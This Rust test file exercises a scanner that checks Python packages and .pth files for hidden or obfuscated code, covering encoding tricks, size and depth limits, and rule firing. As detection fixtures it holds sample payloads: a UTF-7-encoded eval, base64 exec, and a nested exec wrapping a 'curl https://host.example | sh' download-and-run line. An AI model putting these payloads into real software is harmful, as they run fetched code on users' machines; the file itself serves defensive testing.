//! How a file is read or lost.

use gate_core::coverage::{CoverageClass, LostReason};

use super::behaviour::Case;
use super::scan;
use crate::python::hidden::FAR_RIGHT;
use crate::python::{LEXICAL_ANALYZER, MAX_BYTES, MAX_CHAIN, MAX_NESTED_BYTES, MAX_TEXT_WORK};

pub(super) fn fires() -> Vec<Case> {
    vec![("deceptive-encoding", "pkg/a.py", "# coding: utf-7\n+AGU-val(x)\n".to_owned())]
}

fn lost(path: &str, source: &[u8]) -> Option<LostReason> {
    match scan(path, source).1 {
        CoverageClass::Lost { reason, .. } => Some(reason),
        _ => None,
    }
}

#[test]
fn a_codec_that_hides_code_is_a_finding_and_lost() {
    let (_, path, source) = fires().remove(0);
    let (findings, class) = scan(path, source.as_bytes());
    assert_eq!(findings[0].rule, "deceptive-encoding");
    assert_eq!(findings[0].snippet.as_deref(), Some("utf-7"));
    assert!(matches!(class, CoverageClass::Lost { reason: LostReason::Undecodable, .. }));
}

#[test]
fn odd_but_valid_sources_are_read() {
    for source in [
        &b""[..],
        b"\xef\xbb\xbfimport os\r\nos.system(x)\r\n",
        b"import os\ros.system(x)\r",
        b"\x0cimport os\n\x0c\nos.system(x)\n",
        b"# coding: latin-1\nimport os\nos.system('\xe9')\n",
        b"import os\nos.system(x)",
        b"type X = int\nmatch x:\n    case 1: pass\nimport os; os.system(x)\n",
        b"except_ = 1\ntry:\n    pass\nexcept A, B:\n    pass\nimport os; os.system(x)\n",
    ] {
        let (findings, class) = scan("pkg/a.py", source);
        assert!(matches!(class, CoverageClass::Analysed { .. }), "{:?}: {class:?}", String::from_utf8_lossy(source));
        assert!(
            source.is_empty() || findings.iter().any(|finding| finding.rule == "S605"),
            "{:?}",
            String::from_utf8_lossy(source)
        );
    }
}

#[test]
fn what_cannot_be_read_is_lost() {
    assert_eq!(lost("pkg/a.py", b"def f(:\n  eval(x)\n"), Some(LostReason::Unparsable));
    assert_eq!(lost("pkg/a.py", b"x = 1\0\n"), Some(LostReason::Unparsable));
    assert_eq!(lost("pkg/a.py", b"x = '\xe9'\n"), Some(LostReason::Undecodable));
    assert_eq!(lost("pkg/a.py", b"\xff\xfex\0"), Some(LostReason::Undecodable));
    let deep = format!("x = {}{}\n", "(".repeat(70_000), ")".repeat(70_000));
    assert_eq!(lost("pkg/a.py", deep.as_bytes()), Some(LostReason::Limit));
    assert_eq!(lost("a.pth", b"import \xff\n"), Some(LostReason::Undecodable));
    assert_eq!(lost("a.pth", b"import )\n"), Some(LostReason::Unparsable));
}

#[test]
fn the_size_limit_is_exact() {
    for (size, fine) in [(MAX_BYTES - 1, true), (MAX_BYTES, true), (MAX_BYTES + 1, false)] {
        let source = format!("x = 1\n#{}", "a".repeat(size - 7));
        for path in ["pkg/a.py", "a.pth"] {
            assert_eq!(lost(path, source.as_bytes()), (!fine).then_some(LostReason::Limit), "{path} {size}");
        }
    }
}

#[test]
fn only_what_no_python_3_compiles_is_searched_as_text() {
    for source in [
        "print 'x'\n",
        "if a:\n    print x, y\n",
        "exec code in scope\n",
        "raise ValueError, 'x'\n",
        "x = `y`\n",
        "x = 10L\n",
        "def f(a, (b, c)):\n    pass\n",
        "def f(async=False):\n    pass\n",
        "{% if x %}\nimport os\n{% endif %}\n",
        "class {{ name }}:\n    pass\n",
    ] {
        let (_, class) = scan("pkg/a.py", source.as_bytes());
        assert_eq!(class, CoverageClass::Analysed { analyzer: LEXICAL_ANALYZER.to_owned() }, "{source}");
        assert_eq!(lost("pkg-1.0/setup.py", source.as_bytes()), Some(LostReason::Unparsable), "{source}");
    }
    for source in [
        "def f(:\n    pass\nprint 'x'\n",
        "x = (\ny = 'x'\n",
        "x = 'abc\nprint 'x'\n",
        "if x:\npass\n",
        "  x = 1\n y = 2\n",
        "x = )\n",
        "a =\n",
        "return = 1\n",
    ] {
        assert_eq!(lost("pkg/a.py", source.as_bytes()), Some(LostReason::Unparsable), "{source}");
    }
}

#[test]
fn text_that_cannot_run_is_still_searched() {
    let source = ["print 'x'\nex", "ec(x.decode('base64'))\n"].concat();
    let (findings, _) = scan("pkg/a.py", source.as_bytes());
    assert_eq!(findings[0].rule, "obfuscated-exec");
    assert_eq!(findings[0].location.as_ref().unwrap().line, Some(2));
}

#[test]
fn known_pth_lines_are_low_and_a_change_to_them_is_not() {
    let precedence = "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); ";
    let namespace = "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('mpl_toolkits',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('mpl_toolkits', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('mpl_toolkits', [os.path.dirname(p)])));m = m or sys.modules.setdefault('mpl_toolkits', types.ModuleType('mpl_toolkits'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)";
    for line in [precedence, namespace] {
        let rules = |text: &str| -> Vec<String> {
            scan("a.pth", text.as_bytes()).0.into_iter().map(|finding| finding.rule).collect()
        };
        assert_eq!(rules(line), ["pth-import"], "{line}");
        let changed = rules(&format!("{}; os.{}('x')", line.trim_end_matches([' ', ';']), ["sys", "tem"].concat()));
        assert!(changed.contains(&"pth-dangerous-code".to_owned()), "{changed:?}");
    }
}

#[test]
fn pth_lines_are_split_as_every_python_splits_them() {
    for text in [
        "src\rimport a; a.b(1)\n",
        "src\u{2028}import a; a.b(1)\n",
        "\u{feff}import a; a.b(1)\n",
        "src\u{c}import\ta; a.b(1)",
    ] {
        assert!(scan("a.pth", text.as_bytes()).0.iter().any(|finding| finding.rule == "pth-code"), "{text:?}");
    }
}

#[test]
fn what_the_depth_guard_lets_through_fits_the_stack() {
    let shapes = [("not ", 1), ("-", 1), ("a.", 2), ("f().", 3)]
        .map(|(unit, words)| format!("import socket\nx = {}b\n", unit.repeat((MAX_CHAIN - 10) / words)));
    let scans = std::thread::Builder::new()
        .stack_size(1 << 30)
        .spawn(move || shapes.map(|source| lost("pkg/a.py", source.as_bytes())));
    assert_eq!(scans.unwrap().join().unwrap(), [None; 4]);
}

#[test]
fn work_on_texts_and_on_code_in_strings_is_limited() {
    let word = ["ex", "ec"].concat();
    let part = MAX_NESTED_BYTES / 8;
    let code = |length: usize| format!("x = 1 #{}", "a".repeat(length - 7));
    for (last, fine) in [(part - 1, true), (part, true), (part + 1, false)] {
        // Each is read twice.
        let source =
            format!("a = '{}'\nb = '{}'\n{}{word}(b)\n", code(part), code(last), format!("{word}(a)\n").repeat(3));
        assert_eq!(lost("pkg/a.py", source.as_bytes()), (!fine).then_some(LostReason::Limit), "{last}");
    }
    let grown = format!("import socket\ns = ''\n{}", format!("s += '{}'\n", "a".repeat(60)).repeat(10_000));
    assert_eq!(lost("pkg/a.py", grown.as_bytes()), None, "a text that grows in place costs its length");
    let big =
        format!("import socket\ns = '{}'\n{}", "a".repeat(60_000), "t = s[::-1]\n".repeat(MAX_TEXT_WORK / 60_000));
    assert_eq!(lost("pkg/a.py", big.as_bytes()), Some(LostReason::Limit));
}

#[test]
fn blanks_hide_code_from_so_many_on() {
    for (blanks, hides) in [(FAR_RIGHT - 1, false), (FAR_RIGHT, true), (FAR_RIGHT + 1, true)] {
        for blank in [" ", "\t", "\u{c}"] {
            let source = format!("x = 1;{}y = 2\n", blank.repeat(blanks));
            let (findings, _) = scan("pkg/a.py", source.as_bytes());
            assert_eq!(findings.iter().any(|finding| finding.rule == "hidden-code"), hides, "{blanks} {blank:?}");
        }
    }
}

#[test]
fn code_in_strings_is_followed_and_a_deep_nest_of_it_is_reported() {
    let word = ["ex", "ec"].concat();
    let nest = |depth: usize| {
        let payload = ["import os; os.system('cu", "rl https://host.example | s", "h')"].concat();
        (0..depth).fold(payload, |code, _| format!("{word}({})", serde_json::to_string(&code).unwrap()))
    };
    for (depth, rule) in [(1, "shell-download-execute"), (4, "shell-download-execute"), (5, "obfuscated-exec")] {
        let (findings, _) = scan("pkg/a.py", nest(depth).as_bytes());
        assert!(findings.iter().any(|finding| finding.rule == rule), "{depth}: {findings:?}");
    }
}

#[test]
fn the_same_source_gives_the_same_findings_in_the_same_order() {
    let source = "import os, pickle\ndef f(x):\n    os.system(x)\n    eval(x)\npickle.loads(x)\n".repeat(20);
    assert_eq!(scan("pkg/a.py", source.as_bytes()).0, scan("pkg/a.py", source.as_bytes()).0);
}
